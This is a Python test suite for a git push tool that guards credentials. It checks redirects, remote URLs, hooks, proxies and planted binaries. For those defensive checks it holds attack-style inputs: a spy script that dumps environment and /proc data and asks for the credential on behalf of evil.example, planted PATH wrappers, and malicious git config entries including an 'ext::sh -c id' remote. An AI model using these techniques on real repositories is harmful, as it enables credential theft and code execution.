"""git_push: where it goes, what a person sees before, and who gets the credential."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from callboard.config.sections import SandboxSettings
from callboard.runtime.definitions import ErrorType, ToolFailure
from callboard.runtime.processes import Command
from callboard.runtime.redaction import Secret
from callboard.tools.git.push import answerer, parse_remote
from callboard.tools.sandbox.sandbox import Sandbox
from support.tools import development_bench
from support.tools.development_bench import Bench, make_repository, plain_git
from support.tools.git_server import GitServer, open_git_server

TOKEN = "token-4f1c9a"


pytestmark = pytest.mark.usefixtures("sandbox")


@pytest.fixture
def server(tmp_path: Path) -> Iterator[GitServer]:
    (tmp_path / "served").mkdir()
    plain_git(tmp_path / "served", "init", "-q", "--bare", "-b", "main", "far.git")
    with open_git_server(tmp_path / "served") as opened:
        yield opened


@pytest.fixture
def bench(tmp_path: Path, server: GitServer) -> Bench:
    made = make_repository(tmp_path / "work")
    made.git("remote", "add", "origin", server.url("far.git"))
    made.allow = (f"127.0.0.1:{server.port}",)
    return made


def far(server: GitServer, *words: str) -> str:
    return plain_git(server.folder / "far.git", *words).strip()


async def test_a_branch_arrives_and_is_noted(bench: Bench, server: GitServer) -> None:
    head = bench.git("rev-parse", "main").strip()
    pushed = await bench.output("git_push")
    assert pushed == {
        "remote": "origin",
        "url": server.url("far.git"),
        "branch": "main",
        "commit": head,
        "outcome": "created",
    }
    assert far(server, "rev-parse", "main") == head
    assert bench.git("rev-parse", "origin/main").strip() == head
    assert (await bench.output("git_push"))["outcome"] == "up_to_date"
    bench.git("commit", "-q", "--allow-empty", "-m", "next")
    assert (await bench.output("git_push", branch="main"))["outcome"] == "updated"


async def test_a_person_sees_where_it_goes_and_what_would_go(
    bench: Bench, server: GitServer
) -> None:
    await bench.output("git_push")
    bench.git("remote", "set-url", "origin", server.url("far.git", f"ada:{TOKEN}@"))
    for number in range(2):
        bench.git("commit", "-q", "--allow-empty", "-m", f"subject {number}")
    shown = await bench.preview("git_push")
    assert shown is not None
    [first, second, third, *commits] = shown.splitlines()
    assert first.startswith(f"pushes main ({bench.git('rev-parse', 'main').strip()}) to ")
    assert f"to {server.url('far.git')} as ada (with a password in it" in first
    assert (second, third[:9]) == ("remote: origin", "2 commits")
    assert commits[2] == "noted as there:"
    del commits[2]
    subjects = [line.split(" ", 3)[3] for line in commits]
    assert subjects == ["subject 1", "subject 0", "begin"]
    assert TOKEN not in shown


async def test_what_programs_plant_in_a_repository_hides_no_commit(bench: Bench) -> None:
    bench.git("commit", "-q", "--allow-empty", "-m", "adds a secret")
    evil = bench.git("rev-parse", "HEAD").strip()
    # Another commit in its place, and a note that the remote had all of it.
    fine = bench.git("commit-tree", "-p", "HEAD~1", "-m", "mends a typo", "HEAD^{tree}").strip()
    bench.git("replace", evil, fine)
    bench.git("update-ref", "refs/remotes/origin/planted", evil)
    assert "typo" in bench.git("log", "-1", "--format=%s")  # the control: so a person's git says
    shown = await bench.preview("git_push")
    assert shown is not None
    assert evil in shown
    assert "adds a secret" in shown
    assert "typo" not in shown
    [latest, *_] = (await bench.output("git_log"))["commits"]
    assert latest["subject"] == "adds a secret"


async def test_a_git_of_the_workspace_on_path_gets_no_credential(
    bench: Bench, server: GitServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An operator's PATH often begins with a project's own programs."""
    sign, planted = bench.workspace / "ran", bench.workspace / ".venv" / "bin"
    for name in ("git", "sh", "python3"):
        bench.write(f".venv/bin/{name}", f'#!/bin/sh\ntouch {sign}\nexec /usr/bin/{name} "$@"\n')
        (planted / name).chmod(0o755)
    environ = {**os.environ, "PATH": f"{planted}:{os.environ['PATH']}"}
    own = Sandbox(SandboxSettings(), environ)
    monkeypatch.setattr(development_bench, "sandbox", lambda: own)
    server.credential = f"ada:{TOKEN}"
    bench.credentials = {f"http://127.0.0.1:{server.port}": f"ada:{TOKEN}"}
    assert (await bench.output("git_push"))["outcome"] == "created"
    assert not sign.exists()
    processes = bench.context.processes
    assert processes is not None
    await processes.run(Command(argv=("git", "--version"), seconds=20))
    assert sign.exists()  # the control: elsewhere the operator's PATH counts as it is


async def test_what_the_remote_has_is_never_overwritten(bench: Bench, server: GitServer) -> None:
    await bench.output("git_push")
    bench.git("commit", "-q", "--amend", "-m", "another")
    failure = await bench.failure("git_push")
    assert failure.error_type == ErrorType.EXECUTION_ERROR
    assert "never forced" in str(failure)
    assert far(server, "log", "--format=%s", "main") == "begin"


async def test_the_credential_is_given_for_this_remote(bench: Bench, server: GitServer) -> None:
    server.credential = f"ada:{TOKEN}"
    failure = await bench.failure("git_push")
    assert failure.error_type == ErrorType.PERMISSION_DENIED
    assert f"callboard keys set git --origin http://127.0.0.1:{server.port}" in str(failure)
    bench.credentials = {f"http://127.0.0.1:{server.port}": f"ada:{TOKEN}"}
    assert (await bench.output("git_push"))["outcome"] == "created"
    assert set(server.seen) == {"", f"ada:{TOKEN}"}
    # The name of the remote's own URL goes with a token alone; a password there is not sent.
    bench.git("remote", "set-url", "origin", server.url("far.git", "ada:other@"))
    bench.credentials = {f"http://127.0.0.1:{server.port}": TOKEN}
    assert (await bench.output("git_push"))["outcome"] == "up_to_date"
    bench.credentials = {f"http://127.0.0.1:{server.port}": "ada:wrong"}
    assert "did not accept" in str(await bench.failure("git_push"))


async def test_a_redirect_is_not_followed_and_nobody_else_gets_the_credential(
    bench: Bench, server: GitServer, tmp_path: Path
) -> None:
    with open_git_server(server.folder) as other:
        bench.allow += (f"127.0.0.1:{other.port}",)
        bench.credentials = {f"http://127.0.0.1:{server.port}": f"ada:{TOKEN}"}
        other.credential = f"ada:{TOKEN}"
        server.redirect = f"http://127.0.0.1:{other.port}"
        assert "302" in str(await bench.failure("git_push"))
        assert other.seen == []
        # Without the redirect it works; and git by itself would have followed it.
        server.redirect = None
        assert await bench.output("git_push")
        server.redirect, other.credential = f"http://127.0.0.1:{other.port}", None
        plain_git(tmp_path, "ls-remote", server.url("far.git"))
        assert other.seen


async def test_the_credential_is_in_no_variable_and_no_file(
    bench: Bench, server: GitServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A git in the place of git looks around, and asks the socket for other places."""
    spy = bench.write(
        ".spy/git",
        "#!/bin/sh\n"
        "case $1 in push)\n"
        "  { env; cat /run/callboard/* /proc/*/environ /proc/*/cmdline; } > seen 2>/dev/null\n"
        '  ask() { printf \'protocol=http\\nhost=%s\\npath=%s\\n\\n\' "$1" "$2" |'
        " python3 -I /run/callboard/credential.py get; }\n"
        '  { ask evil.example far.git; ask "$HOST" other.git; } > refused\n'
        '  ask "$HOST" far.git > given;;\n'
        "esac\n"
        'exec /usr/bin/git "$@"\n',
    )
    spy.chmod(0o755)
    host = f"127.0.0.1:{server.port}"
    bench.credentials = {f"http://{host}": f"ada:{TOKEN}"}
    from callboard.tools.git import command as git_command

    lying = {**git_command._ALONE, "PATH": f"{spy.parent}:{os.environ['PATH']}", "HOST": host}
    monkeypatch.setattr(git_command, "_ALONE", lying)
    await bench.output("git_push")
    assert "GIT_DIR" in (bench.workspace / "seen").read_text(errors="replace")
    assert TOKEN not in (bench.workspace / "seen").read_text(errors="replace")
    assert (bench.workspace / "refused").read_text() == "quit=1\n" * 2
    assert (bench.workspace / "given").read_text() == f"username=ada\npassword={TOKEN}\n"


async def test_hooks_rewritten_urls_and_proxies_of_the_repository_do_not_count(
    bench: Bench, server: GitServer
) -> None:
    sign = bench.workspace / "ran"
    hook = bench.write(".git/hooks/pre-push", f"#!/bin/sh\ntouch {sign}\n")
    hook.chmod(0o755)
    bench.git("config", "credential.helper", f"!touch {sign}")
    bench.git("config", "url.http://evil.example/.insteadOf", server.url(""))
    bench.git("config", "http.proxy", "http://evil.example:1")
    bench.git("config", "core.sshCommand", f"touch {sign}")
    assert (await bench.output("git_push"))["outcome"] == "created"
    assert not sign.exists()
    bench.git("config", "--unset", "http.proxy")
    bench.git("config", "--remove-section", "url.http://evil.example/")
    bench.git("push", "-q", "origin", "main:other")
    assert sign.exists()


async def test_a_host_that_is_not_listed_is_not_reached(bench: Bench, server: GitServer) -> None:
    bench.allow = ()
    failure = await bench.failure("git_push")
    assert failure.error_type == ErrorType.URL_NOT_ALLOWED
    assert server.seen == []


@pytest.mark.parametrize(
    "url",
    [
        "git@github.com:a/b.git", "ssh://git@github.com/a/b.git", "git://github.com/a/b.git",
        "file:///srv/b.git", "/srv/b.git", "../b.git", "ext::sh -c id", "https::https://github.com/a",
        "http://github.com/a/b.git", "ftp://github.com/a", "https://github.com/a?b",
        "https://gith ub.com/a", "https:///a", "https://a\n@b/c", "-u", "",
    ],
)  # fmt: skip
def test_only_https_remotes_are_pushed_to(url: str) -> None:
    with pytest.raises(ToolFailure) as caught:
        parse_remote("origin", url)
    assert caught.value.error_type == ErrorType.URL_NOT_ALLOWED
    assert "git remote set-url origin https://" in str(caught.value)


async def test_a_remote_that_runs_a_program_is_refused_by_the_tool_too(bench: Bench) -> None:
    sign = bench.workspace / "ran"
    bench.git("config", "remote.origin.url", f"ext::touch {sign}")
    bench.git("config", "protocol.ext.allow", "always")
    assert (await bench.failure("git_push")).error_type == ErrorType.URL_NOT_ALLOWED
    assert not sign.exists()
    with pytest.raises(subprocess.CalledProcessError):
        bench.git("push", "-q", "origin", "main")
    assert sign.exists()


async def test_what_is_not_there_is_named(bench: Bench, server: GitServer) -> None:
    refused = [
        ({"remote": "upstream"}, "Remotes: origin"),
        ({"branch": "side"}, "no branch side"),
        ({"branch": "--force"}, "branch"),
        ({"remote": "https://evil.example/x"}, "remote"),
        ({"branch": "main:other"}, "branch"),
    ]
    for arguments, told in refused:
        failure = await bench.failure("git_push", **arguments)
        assert failure.error_type == ErrorType.VALIDATION_ERROR
        assert told in str(failure)
    assert server.seen == []


async def test_git_is_told_nothing_for_another_place() -> None:
    remote = parse_remote("origin", "https://github.com/a/b.git")
    answer = answerer(remote, Secret(TOKEN))
    good = {"protocol": "https", "host": "github.com", "path": "a/b.git"}

    async def said(**changed: str) -> bytes:
        lines = {**good, **changed}
        return await answer("".join(f"{k}={v}\n" for k, v in lines.items() if v).encode())

    assert await said() == f"username=git\npassword={TOKEN}\n".encode()
    others = [
        {"protocol": "http"},
        {"host": "github.com.evil.example"},
        {"host": "github.com:8443"},
        {"path": "a/b.git/../c"},
        {"path": ""},
        {"host": ""},
    ]
    for other in others:
        assert await said(**other) == b"quit=1\n"
    assert await answer(b"\xff\0garbage") == b"quit=1\n"
